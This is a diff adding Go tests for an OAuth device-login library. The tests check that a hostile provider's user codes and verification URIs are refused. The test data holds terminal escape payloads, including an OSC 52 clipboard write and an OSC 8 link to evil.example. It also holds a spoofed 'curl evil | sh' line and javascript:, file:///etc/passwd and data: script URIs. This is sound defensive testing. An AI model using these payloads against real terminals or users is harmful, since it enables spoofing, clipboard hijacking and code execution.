@@ -1,0 +1,133 @@
+package freshtoken_test
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"golang.org/x/oauth2"
+
+	"github.com/freshtoken/freshtoken"
+	"github.com/freshtoken/freshtoken/internal/fakeclock"
+	"github.com/freshtoken/freshtoken/store/filestore"
+)
+
+// hostileDevice is a provider whose device authorization endpoint answers
+// with answer (the device_code is added), and whose token endpoint answers
+// each poll with authorization_pending until approved is set, then with
+// tokens. Polls are counted.
+type hostileDevice struct {
+	src      *freshtoken.Source
+	clock    *fakeclock.Clock
+	polls    atomic.Int32
+	approved atomic.Bool
+}
+
+func newHostileDevice(t *testing.T, answer map[string]any) *hostileDevice {
+	t.Helper()
+	h := &hostileDevice{clock: fakeclock.New()}
+	mux := http.NewServeMux()
+	mux.HandleFunc("POST /device", func(w http.ResponseWriter, r *http.Request) {
+		a := map[string]any{"device_code": "the-device-code-0123456789"}
+		for k, v := range answer {
+			a[k] = v
+		}
+		w.Header().Set("Content-Type", "application/json")
+		json.NewEncoder(w).Encode(a)
+	})
+	mux.HandleFunc("POST /token", func(w http.ResponseWriter, r *http.Request) {
+		h.polls.Add(1)
+		w.Header().Set("Content-Type", "application/json")
+		if !h.approved.Load() {
+			w.WriteHeader(http.StatusBadRequest)
+			w.Write([]byte(`{"error":"authorization_pending"}`))
+			return
+		}
+		w.Write([]byte(`{"access_token":"device-access-token-0123456789","token_type":"Bearer","expires_in":3600,"refresh_token":"device-refresh-token-0123456789"}`))
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	src, err := freshtoken.New(freshtoken.Settings{
+		Env: "tv", ClientID: "id", ClientSecret: "client-secret-0123456789",
+		TokenURL: srv.URL + "/token", DeviceAuthURL: srv.URL + "/device", Grant: freshtoken.GrantDeviceCode,
+		AuthStyle: oauth2.AuthStyleInHeader, RetryBackoff: []time.Duration{time.Millisecond},
+	}, freshtoken.Options{Store: filestore.New(t.TempDir() + "/tokens"), Clock: h.clock.Now})
+	if err != nil {
+		t.Fatal(err)
+	}
+	freshtoken.SetPause(src, h.clock.Sleep)
+	h.src = src
+	return h
+}
+
+// TestDeviceAnswersUnsafeToShowAreRefused: a device authorization answer
+// is printed on the user's terminal and shown on the proxy's page, and
+// verification_uri_complete is opened in their browser. A user code or
+// verification URI carrying terminal escapes (an OSC 52 clipboard write, a
+// carriage return overwriting the line, C1 controls, bidi overrides) or a
+// URI that is not an http(s) page (javascript:, file:, data:, user info
+// posing as the host) is refused with nothing shown.
+func TestDeviceAnswersUnsafeToShowAreRefused(t *testing.T) {
+	const page = "https://login.example.com/device"
+	for _, tc := range []struct{ name, userCode, uri string }{
+		{"OSC 52 clipboard write in the user code", "WDJB\x1b]52;c;ZWNobyBwd25lZA==\x07-MJHT", page},
+		{"CSI in the user code", "WDJB-MJHT\x1b[2K\x1b[1A", page},
+		{"carriage return in the user code", "WDJB-MJHT\rTo log in, run curl evil | sh", page},
+		{"C1 CSI in the user code", "WDJB\u009b2J-MJHT", page},
+		{"bidi override in the user code", "WDJB-\u202eTHJM", page},
+		{"an enormous user code", strings.Repeat("W", 4096), page},
+		{"OSC 8 hyperlink in the URI", "WDJB-MJHT", "\x1b]8;;https://evil.example/\x07" + page + "\x1b]8;;\x07"},
+		{"C1 control in the URI", "WDJB-MJHT", page + "\u009b2J"},
+		{"javascript: URI", "WDJB-MJHT", "javascript:alert(document.domain)"},
+		{"file: URI", "WDJB-MJHT", "file:///etc/passwd"},
+		{"data: URI", "WDJB-MJHT", "data:text/html,<script>alert(1)</script>"},
+		{"relative URI", "WDJB-MJHT", "/device"},
+		{"user info posing as the host", "WDJB-MJHT", "https://login.example.com@evil.example/device"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHostileDevice(t, map[string]any{"user_code": tc.userCode, "verification_uri": tc.uri, "expires_in": 600})
+			d, err := h.src.StartDeviceLogin(context.Background())
+			if !errors.Is(err, freshtoken.ErrUnreachable) || !strings.Contains(err.Error(), "device_auth_url") {
+				t.Fatalf("StartDeviceLogin = %+v, %v; want the answer refused (ErrUnreachable, naming device_auth_url)", d, err)
+			}
+			if strings.ContainsAny(err.Error(), "\x1b\r\u009b\u202e") {
+				t.Fatalf("the error repeats the escape: %q", err)
+			}
+		})
+	}
+}
+
+// TestDeviceCompleteURIOnlyWhenSafe: verification_uri_complete is opened in
+// the browser and linked from the proxy's page, so it is kept only when it
+// is an http(s) page on the very host the person is told to visit; else
+// the person uses verification_uri and types the code.
+func TestDeviceCompleteURIOnlyWhenSafe(t *testing.T) {
+	const page = "https://login.example.com/device"
+	for _, tc := range []struct{ name, complete, want string }{
+		{"same host", page + "?user_code=WDJB-MJHT", page + "?user_code=WDJB-MJHT"},
+		{"another host", "https://evil.example/device?user_code=WDJB-MJHT", ""},
+		{"another scheme", "http://login.example.com/device?user_code=WDJB-MJHT", ""},
+		{"javascript:", "javascript:alert(1)", ""},
+		{"file:", "file:///C:/Windows/System32/calc.exe", ""},
+		{"data:", "data:text/html,hi", ""},
+		{"escape sequence", page + "?user_code=\x1b]52;c;aGk=\x07", ""},
+		{"user info", "https://login.example.com@evil.example/device", ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHostileDevice(t, map[string]any{"user_code": "WDJB-MJHT", "verification_uri": page, "verification_uri_complete": tc.complete, "expires_in": 600})
+			d, err := h.src.StartDeviceLogin(context.Background())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if d.VerificationURIComplete != tc.want || d.VerificationURI != page || d.UserCode != "WDJB-MJHT" {
+				t.Fatalf("got %q, %q, %q; want the complete URI %q", d.VerificationURI, d.VerificationURIComplete, d.UserCode, tc.want)
+			}
+		})
+	}
+}
